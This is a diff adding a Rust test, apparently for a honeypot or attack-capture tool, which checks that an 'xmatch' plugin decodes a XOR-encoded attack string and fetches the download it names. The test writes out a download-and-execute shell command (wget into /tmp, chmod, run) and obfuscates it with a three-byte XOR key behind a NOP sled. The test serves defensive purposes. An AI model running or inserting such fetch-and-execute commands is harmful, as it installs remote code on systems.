@@ -747,3 +747,24 @@ fn a_silent_server_does_not_hold_up_the_attacks_other_downloads() {
         assert!(lab.log().contains(&format!(":81/slow{n}: ")), "{}", lab.log());
     }
 }
+
+/// xmatch: a command XOR-encoded with a three-byte key is found through its known
+/// plaintext (`http://`), decoded, and its download fetched for the real attack.
+#[test]
+fn xor_encoded_commands_are_decoded_by_xmatch() {
+    if !needs("xor_encoded_commands_are_decoded_by_xmatch") {
+        return;
+    }
+    let x = sample(41, 4000);
+    let patterns = TempDir::new("xmatch-patterns");
+    let file = patterns.join("patterns.txt");
+    std::fs::write(&file, "# known plaintext\n\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\n").unwrap();
+    let lab = Lab::start(&[("x.bin", &x)], &format!("plugin-xmatch = {{ xpattern_file = \"{}\" }}", file.display()));
+    let key = [0x5a_u8, 0x13, 0xc7];
+    let command = format!("cd /tmp; wget http://{CLI4}/x.bin -O .x; chmod +x .x; ./.x\n");
+    let mut attack = vec![0x90u8; 17];
+    attack.extend(command.bytes().enumerate().map(|(i, b)| b ^ key[i % 3]));
+    lab.attack(attack);
+    lab.expect_download(".x", &x);
+    assert!(lab.log().contains("xmatch - Attack string is XOR-encoded with a 3-byte key"), "{}", lab.log());
+}
